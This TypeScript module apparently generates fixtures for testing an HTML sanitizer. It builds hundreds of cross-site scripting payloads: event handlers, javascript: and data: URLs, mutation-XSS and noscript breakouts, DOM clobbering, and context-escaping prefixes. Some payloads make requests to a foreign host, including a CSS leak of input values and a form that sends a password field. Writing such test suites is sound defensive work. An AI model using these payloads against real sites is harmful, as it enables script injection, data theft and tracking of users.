/** A hostile name: it closes elements, opens others, and contains characters that end a line of a script. */
export const hostileName = (name: string): string =>
  `</script></title><!--<script>hit('${name}')</script><img src=x onerror=hit('${name}')>\u2028\u2029"'\`&lt;{{7*7}}\${hit('${name}')} ${name}`;

/** Techniques to run code or to request a foreign host from HTML, each with its own word in `hit`. */
export function hostileHtml(foreign: string): string[] {
  const link = (address: string, word: string) => `<a href="${address}" target="_top">${word}</a>`;
  return [
    `<script>hit('script')</script><script src="${foreign}/script.js"></script>`,
    `<img src=x onerror=hit('img')><image src=x onerror="hit('image')">`,
    `<svg/onload=hit('slash')></svg><img src="x"onerror="hit('glued')"><img alt=''/onerror=hit('both') src=x>`,
    `<svg onload=hit('svg')><animate attributeName=x dur=1s onbegin=hit('animate')></animate><script>hit('svg-script')</script></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='hit(1)'/></svg>#x"></use></svg>`,
    link(`javascript:hit('link')`, 'link-one') + link(`java&#9;script&colon;hit('tab')`, 'link-two'),
    link(` &#1;javascript:hit('control')`, 'link-three') +
      link(`data:text/html,<script>opener.hit('data')</script>`, 'link-four'),
    `<iframe src="${foreign}/frame"></iframe><iframe srcdoc="<script>parent.hit('srcdoc')</script>"></iframe><frameset onload=hit('frameset')>`,
    `<object data="${foreign}/object"></object><embed src="${foreign}/embed"><applet code="${foreign}/applet"></applet>`,
    `<meta http-equiv="refresh" content="0;url=${foreign}/refresh"><meta http-equiv="set-cookie" content="planted=1">`,
    `<base href="${foreign}/"><base target="_blank"><a href="relative">link-five</a>`,
    `<style>@import url(${foreign}/import.css); body{background:url(${foreign}/body)} input[value^=a]{background:url(${foreign}/a)}</style>`,
    `<p style="background:url(${foreign}/style)">styled</p><p style="background-image:image-set('${foreign}/set' 1x);position:fixed;inset:0;z-index:9999">over</p>`,
    `<link rel=stylesheet href="${foreign}/sheet.css"><link rel=prefetch href="${foreign}/prefetch"><link rel=preconnect href="${foreign}"><link rel=dns-prefetch href="${foreign}">`,
    `<form action="${foreign}/form" id=root><input name=password autofocus onfocus=hit('focus')><button formaction="javascript:hit('button')">send</button></form>`,
    `<details open ontoggle=hit('toggle')><summary>more</summary></details><marquee onstart=hit('marquee')>moves</marquee>`,
    `<video src="${foreign}/video" autoplay onerror=hit('video')></video><audio src="${foreign}/audio" onerror=hit('audio')></audio>`,
    `<img src="${foreign}/pixel.gif" alt=""><img srcset="${foreign}/set.gif 1x"><picture><source srcset="${foreign}/source.gif"><img alt=""></picture><input type=image src="${foreign}/input.gif">`,
    `<img name=getElementById><img name=querySelector><a id=home-data name=trustedTypes></a><form name=body><input name=children></form><a id=mareStarted></a>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit('mutation-one')&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=hit('mutation-two')>"></style></svg>`,
    `<noscript><p title="</noscript><img src=x onerror=hit('noscript')>"></noscript>`,
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit('mutation-three') src>">`,
    `<template shadowrootmode=open><img src=x onerror=hit('shadow')></template><div><template><script>hit('template')</script></template></div>`,
    `<xmp><p title="</xmp><img src=x onerror=hit('xmp')>"></xmp><textarea><p title="</textarea><img src=x onerror=hit('textarea')>"></textarea>`,
    `<p onclick=hit('click') onmouseover=hit('over') onpointerenter=hit('enter') onanimationstart=hit('anim') style="animation:x 1s">hover me</p>`,
    `<a href="${foreign}/ping" ping="${foreign}/beacon">out</a><a href="//${new URL(foreign).host}/bare">bare</a>`,
  ];
}

/** Whether a piece opens something that it never closes: the following content becomes part of it, in every browser. */
export const swallows = (piece: string): boolean => /mutation-(?:one|three)|noscript/.test(piece);

/** The words before and after the nth piece. */
export const wordsAround = (index: number) => [`antes${index}`, `depois${index}`] as const;

/** The pieces as contents, each between two harmless paragraphs that must remain. */
export const hostileContents = (foreign: string): string[] =>
  hostileHtml(foreign).map((piece, index) => {
    const [before, after] = wordsAround(index);
    return `<p>${before}</p>${piece}<p>${after}</p>`;
  });

/** Prefixes that may end the context of a text: nothing, an attribute, an element, a comment, a script, a template. */
const ends = [
  '',
  '"',
  `'`,
  '">',
  `'>`,
  '</b>',
  '</span></button></li>',
  '-->',
  ']]>',
  '</script>',
  '</title>',
  '</style>',
].concat('</svg>', '</text></svg>', '</template>', '`;', '${', '{{', '<0>', '\0');
/** 500 different payloads that run code from a text or request a foreign host. */
export function hostilePayloads(foreign: string): string[] {
  const pieces = hostileHtml(foreign).concat(hostileName('name'));
  return ends.flatMap((end) => pieces.map((piece, index) => `${end}${piece} ${index}`)).slice(0, 500);
}
